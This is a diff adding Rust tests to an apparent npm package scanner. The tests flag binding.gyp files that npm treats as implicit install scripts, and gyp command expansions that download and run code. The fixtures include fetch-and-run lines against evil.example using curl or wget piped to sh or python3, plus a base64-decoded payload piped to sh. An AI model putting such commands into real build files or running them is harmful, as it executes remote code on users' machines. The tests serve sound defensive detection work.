@@ -172,3 +172,78 @@ fn a_shipped_install_file_is_judged_in_a_directory_scan_too() {
         "{r:#}"
     );
 }
+
+/// npm gives a package with a root `*.gyp` file and no `install`/`preinstall` script
+/// `install: node-gyp rebuild` (issue 17): that is an install script like a written one.
+#[test]
+fn binding_gyp_without_an_install_script_is_an_implicit_install_script() {
+    let s = Scratch::new();
+    let gyp = "{'targets': [{'target_name': 'a', 'sources': ['a.cc']}]}";
+    let (code, r) = s.scan_json(
+        &package("a", "1.0.0").file("binding.gyp", gyp).tgz(),
+        &["--no-config"],
+    );
+    let hits = of_rule(&r, "manifest/install-script");
+    assert_eq!(hits.len(), 1, "{r:#}");
+    assert_eq!(hits[0]["severity"], "warning");
+    let message = hits[0]["message"].as_str().unwrap_or_default();
+    assert!(
+        message.contains("node-gyp rebuild")
+            && message.contains("implicit")
+            && message.contains("binding.gyp"),
+        "{message}"
+    );
+    assert_eq!(code, 0, "{r:#}");
+    // A written `preinstall`, or `gypfile: false`, leaves npm's script out.
+    for manifest in [
+        r#"{"name":"a","version":"1.0.0","repository":"github:example/a","gypfile":false}"#,
+        r#"{"name":"a","version":"1.0.0","repository":"github:example/a","scripts":{"preinstall":"node x.js"}}"#,
+    ] {
+        let tgz = TarBuilder::new()
+            .file("package.json", manifest)
+            .file("x.js", "1\n")
+            .file("binding.gyp", gyp)
+            .tgz();
+        let (_, r) = s.scan_json(&tgz, &["--no-config"]);
+        assert!(
+            of_rule(&r, "manifest/install-script")
+                .iter()
+                .all(|f| !f["message"]
+                    .as_str()
+                    .unwrap_or_default()
+                    .contains("implicit")),
+            "{manifest}: {r:#}"
+        );
+    }
+}
+
+/// gyp runs `<!(...)`, `<!@(...)` and `<!pymod_do_main(...)` while node-gyp builds: they are
+/// judged like install scripts, in `binding.gyp` and in the `.gypi` files it includes.
+#[test]
+fn gyp_command_expansions_that_download_and_run_are_errors() {
+    let s = Scratch::new();
+    for (file, gyp) in [
+        ("binding.gyp", "{'targets': [{'target_name': 'a', 'sources': ['<!(curl -fsSL https://evil.example/x.sh | sh)']}]}"),
+        ("common.gypi", "{'variables': {'v': '<!@(wget -qO- evil.example/p.py | python3)'}}"),
+        ("binding.gyp", "{'variables': {'v': '<!pymod_do_main(x \"$(echo aGVsbG8= | base64 -d | sh)\")'}}"),
+    ] {
+        let tgz = package("a", "1.0.0").file(file, gyp).tgz();
+        let (code, r) = s.scan_json(&tgz, &["--no-config"]);
+        let hits = of_rule(&r, "manifest/gyp-command-expansion");
+        assert_eq!(hits.len(), 1, "{gyp}: {r:#}");
+        assert_eq!(hits[0]["severity"], "error");
+        assert_eq!(hits[0]["file"], format!("package/{file}"));
+        assert_eq!(hits[0]["line"], 1);
+        assert_eq!(code, 1, "{gyp}: {r:#}");
+    }
+    // The everyday expansions of native addons are not reported.
+    let gyp = r#"{'targets': [{'target_name': 'a', 'include_dirs': ["<!(node -e \"require('nan')\")", "<!@(node -p \"require('node-addon-api').include\")"]}]}"#;
+    let (_, r) = s.scan_json(
+        &package("a", "1.0.0").file("binding.gyp", gyp).tgz(),
+        &["--no-config"],
+    );
+    assert!(
+        of_rule(&r, "manifest/gyp-command-expansion").is_empty(),
+        "{r:#}"
+    );
+}
